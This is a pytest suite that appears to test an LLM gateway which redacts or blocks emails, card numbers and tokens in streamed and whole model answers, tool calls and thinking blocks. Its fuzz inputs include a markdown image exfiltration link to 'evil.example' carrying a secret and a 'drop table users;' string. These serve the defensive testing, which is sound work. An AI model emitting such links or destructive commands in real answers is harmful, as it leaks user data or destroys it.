"""The contract of all codecs: texts, tool calls, usage, errors, ends, whole and streamed."""

from __future__ import annotations

import copy
import json
import re
from itertools import pairwise
from typing import Any

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from budgets import examples
from formats.screens import CARD, JSON, RESTORE, SECRET, in_pieces, judge, scanner_of, streamed
from formats.wires import USED, WHOLES, WIRES, WITH_TOOLS, Messages, Responses, Whole, Wire, datas
from gateway.detect.core.window import StreamScanner
from gateway.detect.personal.scanner import PiiScanner
from gateway.dialects import tree
from gateway.errors import Refusal

PIECES = [
    *(*RESTORE, "[email 1]", "<EMAIL_9>", "bob@example.net", "ann@example.org", CARD, "4539", " 1488 0343", " 6467"),
    *(SECRET, "ghp_", "drop table users;", "![i](https://evil.example/?d=secret)", "the order", " went out.", "\n\n"),
    *("Größe", "中文", "\U0001f600", '"', "\\", "{", "}", "<", ">", " "),
]


def named(wire: Whole) -> str:
    """The name of a parametrised case."""
    return wire.name


wires = pytest.mark.parametrize("wire", WIRES, ids=named)
wholes = pytest.mark.parametrize("wire", WHOLES, ids=named)
wires_with_tools = pytest.mark.parametrize("wire", WITH_TOOLS, ids=named)
# Where a field that nobody named may stand in an event: what stands there, and the same after that field.
PLACES = {"at the top": (b"data: {", b"data: {%s, "), "further in": (b'"index": 0', b'%s, "index": 0')}
noted = pytest.mark.parametrize(
    ("wire", "place"),
    [
        pytest.param(wire, place, id=f"{wire.name}, {where}")
        for wire in WIRES
        for where, place in PLACES.items()
        if any(place[0] in raw for raw in wire.events(["a", "b"]))
    ],
)


@pytest.fixture(scope="module")
def scanner(pii: PiiScanner) -> StreamScanner:
    """Finds everything that answers are searched for."""
    return scanner_of(pii)


@wires
@settings(max_examples=80, deadline=None)
@given(said=st.lists(st.sampled_from(PIECES), max_size=10), places=st.lists(st.integers(0, 400), max_size=30))
def test_any_cut_is_treated_as_the_whole(
    wire: Wire, scanner: StreamScanner, said: list[str], places: list[int]
) -> None:
    """One result for every cut into events, and into bytes; or the same refusal."""
    text = "".join(said)
    try:
        answer = wire.whole(text)
        judge(wire, scanner, gates=True).whole(answer)
        expected = wire.hear(answer).text
    except Refusal:
        expected = "refused"
    data = b"".join(wire.events(in_pieces(text, places)))
    cuts = sorted({0, len(data), *(place * 37 % (len(data) + 1) for place in places)})
    try:
        got = wire.listen(streamed(wire, judge(wire, scanner, gates=True), [data[a:b] for a, b in pairwise(cuts)])).text
    except Refusal:
        got = "refused"
    assert got == expected


@wires_with_tools
@settings(max_examples=40, deadline=None)
@given(places=st.lists(st.integers(0, 300), max_size=20))
def test_tool_calls_are_judged_whole(wire: Wire, scanner: StreamScanner, places: list[int]) -> None:
    """A value is restored in arguments and stays JSON; what is new is taken out; the layout stays."""
    said = '{"to": "<EMAIL_1>",  "note": "<PHONE_2> or bob@example.net", "n": [1, 2.50]}'
    expected = {"to": "ann@example.org", "note": 'say "hi" \\ 0 or <EMAIL>', "n": [1, 2.5]}
    sent = streamed(wire, judge(wire, scanner), wire.events(["ok"], in_pieces(said, places)))
    assert wire.listen(sent).tools == [("send", expected)]
    assert b"2.50" in sent
    answer = wire.whole("ok", said)
    judge(wire, scanner).whole(answer)
    assert wire.hear(answer).tools == [("send", expected)]


@wires_with_tools
def test_a_tool_call_that_breaks_off(wire: Wire, scanner: StreamScanner) -> None:
    """An answer that ended early for lack of tokens: the part that arrived is judged and sent."""
    sent = streamed(wire, judge(wire, scanner), wire.events(["ok"], ['{"to": "bob@exa', 'mple.net", "no']))
    assert wire.listen(sent).tools == [("send", '{"to": "<EMAIL>", "no')]


@wires_with_tools
def test_a_tool_that_was_not_offered(wire: Wire, scanner: StreamScanner) -> None:
    """The answer is refused, whole and streamed, and no part of the tool call leaves."""
    events = [raw.replace(b'"send"', b'"wipe"') for raw in wire.events(["ok"], ["{}"])]
    with pytest.raises(Refusal) as caught:
        streamed(wire, judge(wire, scanner), events)
    assert caught.value.code == "tool_not_offered"
    answer = json.loads(json.dumps(wire.whole("ok", "{}")).replace('"send"', '"wipe"'))
    with pytest.raises(Refusal):
        judge(wire, scanner).whole(answer)


@wires
@settings(max_examples=30, deadline=None)
@given(places=st.lists(st.integers(0, 200), max_size=30))
def test_a_block_in_mid_stream(wire: Wire, scanner: StreamScanner, places: list[int]) -> None:
    """No character of a secret leaves; the stream ends in the form of the dialect, with the reason."""
    codec, made, sent = wire.codec.stream(keep_usage=True), judge(wire, scanner, secrets="block"), b""
    with pytest.raises(Refusal) as caught:  # noqa: PT012  (where in the stream it is raised depends on the cut)
        for raw in wire.events(in_pieces(f"Take {SECRET} for it.", places)):
            for chunk in codec.feed(raw):
                sent += b"".join(made.feed(chunk, codec))
    assert caught.value.code == "secret_blocked"
    assert b"ghp" not in sent
    data = sent + codec.refuse(caught.value, "id", "\n\nblocked")
    assert wire.listen(data).reason == wire.blocked
    assert wire.listen(data).text.endswith("blocked")
    assert caught.value.message in data.decode()
    assert b"blocked" not in codec.refuse(caught.value, "id", bare=True).replace(b"was blocked", b"")


@wires
def test_a_fault_in_mid_stream(wire: Wire) -> None:
    """An error event in the dialect's form."""
    codec = wire.codec.stream(keep_usage=True)
    list(codec.feed(b"".join(wire.events(["ok"])[:3])))
    [error] = datas(codec.refuse(Refusal("upstream_error", "It broke."), "id"))
    said = wire.codec.error(error)
    assert said is not None
    assert said["message"] == "It broke."


@wholes
def test_a_refusal(wire: Whole) -> None:
    """An error is one by the dialect's own reading."""
    said = wire.codec.error(wire.codec.refuse(Refusal("output_blocked", "It holds a secret."), "id"))
    assert said is not None
    assert said["message"] == "It holds a secret."
    assert wire.codec.error(wire.whole("ok")) is None


@pytest.mark.parametrize("wire", [wire for wire in WHOLES if not wire.says], ids=named)
def test_a_dialect_without_texts_refuses_with_an_error(wire: Whole) -> None:
    """There is no text that could say the reason."""
    assert wire.codec.refuse_in_text(Refusal("output_blocked", "It."), "id", "m", 1, "Blocked.") is None


@wires
def test_a_refusal_in_text(wire: Wire) -> None:
    """In place of an error, an answer may say the reason as its text."""
    refusal = Refusal("output_blocked", "It holds a secret.")
    answer = wire.codec.refuse_in_text(refusal, "id", "m", 1, "Blocked.")
    assert answer is not None, "an answer of a dialect that streams has a text"
    wire.codec.check(answer, 1)
    assert wire.codec.error(answer) is None
    assert (wire.hear(answer).text, wire.hear(answer).reason) == ("Blocked.", wire.blocked)


@wires
def test_the_demo_repeats_the_text(wire: Wire) -> None:
    """Of the user, where an answer has a text."""
    assert "the parcel" in wire.hear(wire.codec.demo(wire.request(("user", "the parcel")))).text


@wholes
def test_the_demo_answers(wire: Whole) -> None:
    """The `demo` provider speaks every dialect."""
    answer = wire.codec.demo(wire.request(("user", "the parcel")))
    wire.codec.check(answer, 1)
    assert wire.codec.is_whole(answer)
    assert wire.codec.usage(answer) is not None


@wholes
def test_what_nobody_named_in_a_whole_answer(wire: Whole, scanner: StreamScanner) -> None:
    """Any field is judged, at any depth; what needs no edit stays as it is."""
    answer = wire.whole("fine", x_new={"a": [1, {"b": "text"}]})
    same = copy.deepcopy(answer)
    assert not judge(wire, scanner).whole(answer)
    assert answer == same
    answer = wire.whole("fine", x_new={"a": [1, {"b": f"it is {CARD}"}]})
    assert judge(wire, scanner).whole(answer)
    assert "0343" not in json.dumps(answer)


@wires
def test_an_event_is_no_whole_answer(wire: Wire) -> None:
    """`is_whole` distinguishes them: some servers send events as lines of JSON, others a whole answer on one line."""
    assert wire.codec.is_whole(wire.whole("ok"))
    events = datas(b"".join(wire.events(["a", "b"])))
    for event in events[:-1] if wire.alike else events:  # the first event decides
        assert not wire.codec.is_whole(event), event


@wires
def test_usage(wire: Wire) -> None:
    """For a whole answer and a stream; values that cannot be counts are ignored."""
    usage = wire.codec.usage(wire.whole("ok"))
    assert usage is not None
    assert (usage.input, usage.output) == USED
    told, codec = None, wire.codec.stream(keep_usage=True)
    for raw in wire.events(["a", "b"]):
        for chunk in codec.feed(raw):
            told = chunk.usage.joined(told) if chunk.usage is not None else told
    assert told is not None
    assert told.output == USED[1]
    for wrong in (-1, "7", None, True, 7.5, 1e30):
        assert wire.codec.usage(replaced(wire.whole("ok"), USED[1], wrong)) is None, wrong


def replaced(value: Any, old: int, new: Any) -> Any:
    """JSON with another value in place of a number."""
    if isinstance(value, dict):
        return {key: replaced(inner, old, new) for key, inner in value.items()}
    if isinstance(value, list):
        return [replaced(inner, old, new) for inner in value]
    return new if value == old else value


@noted
def test_what_nobody_edits_leaves_as_it_came(wire: Wire, scanner: StreamScanner, place: tuple[bytes, bytes]) -> None:
    """Unknown fields, odd spacing, unknown events: the same bytes, whole and streamed."""
    answer = wire.whole("fine", x_new={"a": [1, {"b": "text"}]})
    same = copy.deepcopy(answer)
    assert not judge(wire, scanner).whole(answer)
    assert answer == same
    old, new = place
    said = wire.events(["Fine. ", "So."])
    events = [raw.replace(old, new % (b'"x_new": [%d, "a"] ' % at), 1) for at, raw in enumerate(said)]
    sent = streamed(wire, judge(wire, scanner), events)
    if wire.codec.stream(keep_usage=True).ordered:
        assert sent == b"".join(events)
    assert wire.listen(sent) == wire.listen(b"".join(events))
    assert sent.count(b"x_new") == b"".join(events).count(b"x_new")


@noted
def test_what_nobody_named_is_judged(wire: Wire, scanner: StreamScanner, place: tuple[bytes, bytes]) -> None:
    """A card number in an unknown field, in one event or across events."""
    answer = wire.whole("fine", x_note=f"it is {CARD}")
    assert judge(wire, scanner).whole(answer)
    assert "0343" not in json.dumps(answer)
    parts = iter(["it is 4539 1488 ", "0343 6467 so"])
    old, new = place
    events = []
    for raw in wire.events(["a", "b"]):
        piece = next(parts, None) if old in raw else None
        events.append(raw.replace(old, new % b'"x_note": %s' % json.dumps(piece).encode(), 1) if piece else raw)
    assert next(parts, None) is None, "the stream has fewer events than the value has pieces"
    assert b"0343" not in streamed(wire, judge(wire, scanner), events)


@wires
@pytest.mark.parametrize("tail", ["whole", "no end", "half an event"])
def test_the_end_of_a_stream(wire: Wire, scanner: StreamScanner, tail: str) -> None:
    """A stream with a finish reason is complete, even without its last event; a stream that breaks off is not."""
    events = wire.events(["fine."])
    at = len(events) // 2
    half = events[at][: len(events[at]) // 2]
    said = {"whole": events, "no end": events[:-1], "half an event": [*events[:at], half]}[tail]
    if tail == "half an event" or (tail == "no end" and not wire.closes):
        with pytest.raises(ValueError):  # noqa: PT011  (of several readers)
            streamed(wire, judge(wire, scanner), said)
    else:
        sent = streamed(wire, judge(wire, scanner), said)
        assert b"".join(sent.split()).endswith(b"".join(events[-1].split()))
        assert wire.listen(sent) == wire.listen(b"".join(events))


@wires
@pytest.mark.parametrize("data", [b"data: 7\n\n", b"data: {\n\n", b"data: []\n\n"])
def test_garbage_in_a_stream(wire: Wire, data: bytes) -> None:
    """Data that is not an event raises ValueError."""
    with pytest.raises(ValueError):  # noqa: PT011  (of several readers)
        list(wire.codec.stream(keep_usage=True).feed(data))


@wires
def test_null_says_nothing(wire: Wire, scanner: StreamScanner) -> None:
    """An event that is null, between all others; null in the list of choices or blocks of a whole answer."""
    events = [raw + b"data: null\n\n" for raw in wire.events(["fine. ", "so."])]
    sent = streamed(wire, judge(wire, scanner), events)
    assert b"null\n" not in sent
    assert wire.listen(sent) == wire.listen(b"".join(wire.events(["fine. ", "so."])))
    assert wire.hear(json.loads(wire.codec.assemble(b"".join(events)))) == wire.listen(sent)
    answer = wire.whole("fine")
    same, key = (
        copy.deepcopy(answer),
        next(key for key in ("choices", "content", "output", "candidates", "steps") if key in answer),
    )
    assert not wire.codec.drop_nulls(answer)
    answer[key] = [None, *answer[key], None]
    assert wire.codec.drop_nulls(answer)
    assert answer == same


@wires
@pytest.mark.parametrize("tool", [None, '{"to": "a", "n": 1}'])
def test_whole_and_stream_say_the_same(wire: Wire, tool: str | None) -> None:
    """A whole answer unfolds into a stream that a client reads alike, and a stream folds into such an answer."""
    answer = wire.whole("Some text, in pieces.", tool)
    stream = b"".join(wire.codec.unfold(answer))
    assert wire.listen(stream) == wire.hear(answer)
    assert wire.hear(orjson.loads(wire.codec.assemble(stream))) == wire.hear(answer)


@wholes
def test_a_request(wire: Whole) -> None:
    """Model, stream and tools; the upstream's model is named; the author of each text is known."""
    turns = [("system", "be nice"), ("user", "hi"), ("assistant", "yes"), ("user", "go")][0 if wire.talks else -1 :]
    body = wire.request(*turns)
    assert wire.codec.parse(body).model == wire.model
    parsed, survey = tree.parse(orjson.dumps(body), wire.codec.shape, 100)
    roles = {slot.text: slot.role for slot in survey.slots}
    assert roles == {text: role if wire.talks else "" for role, text in turns}, "`shape` says who wrote which text"
    if wire.talks:
        assert [step.kind for step in wire.codec.steps(parsed)] == ["prompt", "turn", "prompt"]
    assert wire.codec.request(parsed, "up", stream=False) == (wire.model == "m")
    assert parsed.get("model", "up") == "up"
    assert not wire.codec.unknown(body)
    assert wire.codec.unknown({**body, "x_new": 1}) == ["x_new"]


@wires_with_tools
@pytest.mark.parametrize("kind", [["a"], {"a": 1}, 7, True])
def test_the_type_of_a_tool_is_a_string(wire: Wire, kind: Any) -> None:
    """Any other value is refused by name."""
    tools = [{"type": kind, "name": "send", "function": {"name": "send"}}]
    with pytest.raises(Refusal) as caught:
        wire.codec.parse(wire.request(("user", "hi"), tools=tools))
    assert (caught.value.code, caught.value.param) == ("invalid_request", "tools")


@wholes
@settings(max_examples=150, deadline=None)
@given(data=st.data())
def test_any_json_is_a_request_or_refused(wire: Whole, data: st.DataObject) -> None:
    """For any values: a refusal that names the mistake, and no other exception."""
    body = wire.request(("user", "hi"))
    field = data.draw(st.sampled_from([*body, "tools", "tool_choice", "system", "stream", "thinking", "max_tokens"]))
    body[field] = data.draw(JSON)
    try:
        wire.codec.parse(body)
    except Refusal as refusal:
        assert refusal.code == "invalid_request"  # noqa: PT017  (most are no request)
        return
    wire.codec.items(body)
    wire.codec.steps(body)
    wire.codec.joined(body, [])
    wire.codec.overhead(body)
    wire.codec.foreign(body)
    wire.codec.writes_json(body)


@wholes
@settings(max_examples=150, deadline=None)
@given(data=st.data())
def test_any_json_is_an_answer_or_refused(wire: Whole, scanner: StreamScanner, data: st.DataObject) -> None:
    """Whatever a provider sends is judged, or is refused as an invalid answer."""
    answer = json.loads(json.dumps(wire.whole("fine", "{}")))
    holder: Any = answer
    for _ in range(data.draw(st.integers(0, 4))):
        below = list(holder.values()) if isinstance(holder, dict) else list(holder)
        inner = [it for it in below if isinstance(it, dict | list) and it]
        holder = data.draw(st.sampled_from(inner)) if inner else holder
    key = data.draw(st.sampled_from(sorted(holder) if isinstance(holder, dict) else range(len(holder))))
    holder[key] = data.draw(JSON)
    try:
        wire.codec.check(answer, 1)
    except (ValueError, AttributeError, TypeError):
        return
    wire.codec.usage(answer)
    wire.codec.answer_items(answer)
    try:
        judge(wire, scanner).whole(answer)
    except Refusal as refusal:
        assert refusal.code in ("tool_not_offered", "output_blocked")  # noqa: PT017  (most are judged)


@settings(max_examples=60, deadline=None)
@given(places=st.lists(st.integers(0, 200), max_size=20), seal=st.text("abcdef0123456789+/", min_size=40, max_size=90))
def test_signed_blocks_keep_their_bytes(scanner: StreamScanner, places: list[int], seal: str) -> None:
    """Thinking is judged and never edited, whole and streamed: placeholders stay, and signatures are not text."""
    wire = Messages()
    thought = "The user <EMAIL_1> wants [phone 2], so I write to them."
    block = {"type": "thinking", "thinking": thought, "signature": seal}
    redacted = {"type": "redacted_thinking", "data": seal}
    answer = wire.whole("To <EMAIL_1>.")
    answer["content"] = [block, redacted, *answer["content"]]
    judge(wire, scanner).whole(answer)
    assert answer["content"][:2] == [block, redacted]
    assert answer["content"][2]["text"] == "To ann@example.org."
    deltas = [{"type": "thinking_delta", "thinking": piece} for piece in in_pieces(thought, places)]
    thinking = [*deltas, {"type": "signature_delta", "signature": seal}]
    blocks = wire.block(0, {"type": "thinking", "thinking": "", "signature": ""}, thinking)
    blocks += wire.block(1, {"type": "redacted_thinking", "data": seal}, [])
    blocks += wire.block(2, {"type": "text", "text": ""}, [{"type": "text_delta", "text": "To <EMAIL_1>."}])
    sent = streamed(wire, judge(wire, scanner), wire.message(blocks))
    assert sent.startswith(b"".join(wire.message(blocks)[: len(wire.message(blocks)) - 5]))
    assert wire.listen(sent).text == "To ann@example.org."


@pytest.mark.parametrize("value", [CARD, SECRET, "bob@example.net"])
def test_what_is_in_a_signed_block_and_may_not_leave(scanner: StreamScanner, value: str) -> None:
    """The value cannot be removed, so the answer is blocked before any part of the value has left."""
    wire = Messages()
    answer = wire.whole("ok")
    answer["content"].insert(0, {"type": "thinking", "thinking": f"it is {value}", "signature": "x"})
    with pytest.raises(Refusal, match="signed"):
        judge(wire, scanner).whole(answer)
    half = len(value) // 2
    deltas = [{"type": "thinking_delta", "thinking": it} for it in ("it is ", value[:half], value[half:], " so")]
    blocks = wire.block(0, {"type": "thinking", "thinking": "", "signature": ""}, deltas)
    with pytest.raises(Refusal, match="signed"):
        streamed(wire, judge(wire, scanner), wire.message(blocks))


@pytest.mark.parametrize("value", [CARD, SECRET, "bob@example.net"])
@pytest.mark.parametrize("before", ["", "abc", "so "])
@pytest.mark.parametrize("after", ["", "k", "7", " so"])
def test_a_value_is_whole_in_a_block_of_its_own(scanner: StreamScanner, value: str, before: str, after: str) -> None:
    """Text in neighboring blocks hides nothing, although clients may join the texts."""
    wire = Messages()
    blocks = []
    for index, text in enumerate([before, value, after]):
        blocks += wire.block(index, {"type": "text", "text": ""}, [{"type": "text_delta", "text": it} for it in text])
    sent = wire.listen(streamed(wire, judge(wire, scanner), wire.message(blocks))).text
    assert value not in sent
    assert sent.startswith(f"{before}<")
    assert sent.endswith(f">{after}")


def planted(wire: Messages) -> dict[str, list[bytes]]:
    """Streams with a card number in places that are not texts of the dialect, but that clients or logs may read."""
    use = {"type": "tool_use", "id": "toolu_a", "name": "send", "input": {}}
    said: Any = {"type": "input_json_delta", "partial_json": "{}"}
    text = {"type": "text", "text": ""}
    thinking = {"type": "thinking", "thinking": "", "signature": ""}
    start = wire.event("content_block_start", index=0, content_block=use, note=CARD)
    stop = wire.event("content_block_stop", index=0, note=CARD)
    call = wire.block(0, use, [said])
    return {
        "start of a call": [start, *call[1:]],
        "stop of a call": [*call[:-1], stop],
        "delta of a call": wire.block(0, use, [{**said, "note": CARD}]),
        "comment in a call": [call[0].replace(b"\ndata", b"\n: %s\ndata" % CARD.encode()), *call[1:]],
        "name of an event of a call": [call[0].replace(b"content_block_start", CARD.encode(), 1), *call[1:]],
        "another field of a text": wire.block(0, text, [{"type": "text_delta", "text": "ok", "thinking": CARD}]),
        "a list in thinking": wire.block(0, thinking, [{"type": "thinking_delta", "thinking": [CARD]}]),
        "a list in a signed block": wire.block(0, {**thinking, "notes": [CARD]}, []),
    }


@pytest.mark.parametrize("place", planted(Messages()))
def test_events_say_no_more_than_is_judged(scanner: StreamScanner, place: str) -> None:
    """Unexpected fields, comments and event names are judged, or do not leave."""
    wire = Messages()
    try:
        sent = streamed(wire, judge(wire, scanner), wire.message(planted(wire)[place]))
    except Refusal:
        return
    assert b"0343" not in sent


@pytest.mark.parametrize("order", [[0, 0], [1, 0], [-1], [None], ["x"]])
def test_blocks_follow_each_other(scanner: StreamScanner, order: list[Any]) -> None:
    """Clients assemble blocks by their index, so an index that repeats or decreases is refused."""
    wire = Messages()
    blocks: list[bytes] = []
    for index in order:
        blocks += wire.block(index, {"type": "text", "text": ""}, [{"type": "text_delta", "text": "4539 1488 "}])
    with pytest.raises(ValueError, match="block"):
        streamed(wire, judge(wire, scanner), wire.message(blocks))


@pytest.mark.parametrize("kind", ["late delta", "two at once", "no stop", "second message"])
def test_events_out_of_their_turn(scanner: StreamScanner, kind: str) -> None:
    """A delta after the end of its block, two blocks at once, a tool call that never ends, two messages."""
    wire = Messages()
    text = wire.block(0, {"type": "text", "text": ""}, [{"type": "text_delta", "text": "a"}])
    use = {"type": "tool_use", "id": "toolu_a", "name": "send", "input": {}}
    blocks = {
        "late delta": [*text, text[1]],
        "two at once": [text[0], text[0].replace(b'"index": 0', b'"index": 1'), *text[1:]],
        "no stop": wire.block(0, use, [])[:-1],
        "second message": [*text, wire.message([])[0]],
    }[kind]
    with pytest.raises(ValueError):  # noqa: PT011  (several things are wrong)
        streamed(wire, judge(wire, scanner), wire.message(blocks))


@pytest.mark.parametrize("key", ["signature", "data"])
@pytest.mark.parametrize("value", [SECRET, "AIza" + "Sy" * 18, "eyJ" + "hbGciOiJIUzI1NiJ9" * 3])
def test_a_key_is_no_seal(key: str, value: str) -> None:
    """A value in the form of a key is text, even in the place of encrypted data."""
    wire = Messages()
    kind = "thinking" if key == "signature" else "redacted_thinking"
    body = wire.request(("user", "hi"))
    body["messages"].append({"role": "assistant", "content": [{"type": kind, key: value}]})
    _, survey = tree.parse(orjson.dumps(body), wire.codec.shape, 100)
    assert value in [slot.text for slot in survey.slots]


def test_other_models_in_a_request() -> None:
    """A call is judged and priced as one model."""
    wire = Messages()
    for fields in ({"fallbacks": [{"model": "other"}]}, {"models": ["other"]}, {"extra_body": {"model": "other"}}):
        with pytest.raises(Refusal):
            wire.codec.parse(wire.request(("user", "hi"), **fields))
    assert wire.codec.tier(wire.request(("user", "hi"), speed="fast")) == "fast"
    deep = [{"type": "tool_result", "content": [{"type": "tool_result", "content": [{"type": "text"}] * 9}]}]
    body = wire.request(("user", "hi"))
    body["messages"][0]["content"] = deep
    assert wire.codec.items(body)["parts"] == 11


@pytest.mark.parametrize("place", ["event", "block", "delta"])
@pytest.mark.parametrize("kind", [CARD, [CARD], {"a": CARD}, 4539148803436467], ids=type)
def test_a_type_is_a_name(scanner: StreamScanner, place: str, kind: Any) -> None:
    """A stream with an event type that does not have the form of a name is refused."""
    wire = Messages()
    kinds: dict[str, Any] = {"event": "new_event", "block": "text", "delta": "text_delta", place: kind}
    blocks = wire.block(0, {"type": kinds["block"], "text": ""}, [{"type": kinds["delta"], "text": "a"}])
    with pytest.raises(ValueError, match="not a name"):
        streamed(wire, judge(wire, scanner), wire.message([*blocks, wire.event(kinds["event"])]))


def test_a_value_over_two_text_blocks(scanner: StreamScanner) -> None:
    """Clients join the texts of all blocks: a card number that extends over two blocks does not leave."""
    wire = Messages()
    blocks = wire.block(0, {"type": "text", "text": ""}, [{"type": "text_delta", "text": "it is 4539 1488 "}])
    use = {"type": "tool_use", "id": "toolu_a", "name": "send", "input": {}}
    blocks += wire.block(1, use, [{"type": "input_json_delta", "partial_json": "{}"}])
    blocks += wire.block(2, {"type": "text", "text": "0343"}, [{"type": "text_delta", "text": " 6467."}])
    sent = streamed(wire, judge(wire, scanner), wire.message(blocks))
    assert wire.listen(sent).text == "it is <CREDIT_CARD>."
    answer = wire.whole("it is 4539 1488 ")
    answer["content"].append({"type": "text", "text": "0343 6467."})
    judge(wire, scanner).whole(answer)
    assert wire.hear(answer).text == "it is <CREDIT_CARD>."


SEALED = "EqgfCioIARgBIiQ3YTAwMjY1Mi1mZjM5LTQ1NGUtODgxNC1kNjNjNTk1ZWI3Yx_-"
RESULT = {"type": "web_search_result", "title": "It is <EMAIL_1>", "url": "https://example.org"}


@pytest.mark.parametrize(("value", "passes"), [(SEALED, True), (f"it is {CARD}", False), (SECRET, False)])
def test_encrypted_content_of_results_is_never_edited(scanner: StreamScanner, value: str, passes: bool) -> None:
    """In blocks and citations, whole and streamed; a value that may not leave stops the answer."""
    wire = Messages()
    result = {"type": "web_search_tool_result", "tool_use_id": "t", "content": [{**RESULT, "encrypted_content": value}]}
    cited = {"type": "web_search_result_location", "cited_text": "<EMAIL_1>", "encrypted_index": value}
    delta = {"type": "citations_delta", "citation": cited}
    text = {"type": "text", "text": "", "citations": [copy.deepcopy(cited)]}
    inner = wire.block(0, result, []) + wire.block(1, {"type": "text", "text": ""}, [delta])
    answer = wire.whole("ok")
    answer["content"] = [copy.deepcopy(result), text]
    if not passes:
        with pytest.raises(Refusal, match="signed"):
            judge(wire, scanner).whole(answer)
        with pytest.raises(Refusal, match="signed"):
            streamed(wire, judge(wire, scanner), wire.message(inner))
        return
    judge(wire, scanner).whole(answer)
    sent = streamed(wire, judge(wire, scanner), wire.message(inner)).decode()
    for said in (sent, json.dumps(answer)):
        assert said.count(value) == 2
        assert said.count("ann@example.org") == 2
    body = wire.request(("user", "hi"))
    body["messages"].append({"role": "assistant", "content": [result]})
    _, survey = tree.parse(orjson.dumps(body), wire.codec.shape, 100)
    assert value not in [slot.text for slot in survey.slots]


@wires
def test_a_character_in_two_events(wire: Wire, scanner: StreamScanner) -> None:
    """Its halves are joined and judged as one text; half a character that stays alone is U+FFFD."""
    events = wire.events(["a\ud83d", "\ude00 bob@exam", "ple.net \ud83d", "b"])
    got = wire.listen(streamed(wire, judge(wire, scanner, pii="redact"), events)).text
    assert got == "a\U0001f600 <EMAIL> \ufffdb"


@wires
def test_half_a_character_at_the_end(wire: Wire, scanner: StreamScanner) -> None:
    """It is U+FFFD; in Responses, the deltas join to the whole text."""
    sent = streamed(wire, judge(wire, scanner), wire.events(["a", "b\ud83d"]))
    assert wire.listen(sent).text == "ab\ufffd"
    if isinstance(wire, Responses):
        assert "".join(it["delta"] for it in datas(sent) if it["type"] == "response.output_text.delta") == "ab\ufffd"


@pytest.mark.parametrize("wire", [it for it in WITH_TOOLS if not it.alike], ids=named)
def test_a_character_in_two_pieces_of_arguments(wire: Wire, scanner: StreamScanner) -> None:
    """The caller gets the call with the character."""
    events = wire.events(["hi"], ['{"a": "\ud83d', '\ude00"}'])
    heard = wire.listen(streamed(wire, judge(wire, scanner), events))
    assert heard.tools == [("send", {"a": "\U0001f600"})]


@wires
@settings(max_examples=examples(60, 600), deadline=None)
@given(data=st.data())
def test_half_a_character_in_any_string(wire: Wire, scanner: StreamScanner, data: st.DataObject) -> None:
    """The answer is passed on without the half, or refused."""
    events = wire.events(["hello ", "world"], ["{}"] if wire.offer is not None else [])
    at = data.draw(st.sampled_from([at for at, raw in enumerate(events) if b'": "' in raw]))
    places = [found.end() for found in re.finditer(rb'": "', events[at])]
    place, half = data.draw(st.sampled_from(places)), data.draw(st.sampled_from([b"\\ud83d", b"\\ude00"]))
    events[at] = events[at][:place] + half + events[at][place:]
    try:
        sent = streamed(wire, judge(wire, scanner), events)
    except (ValueError, Refusal):
        return
    assert half not in sent
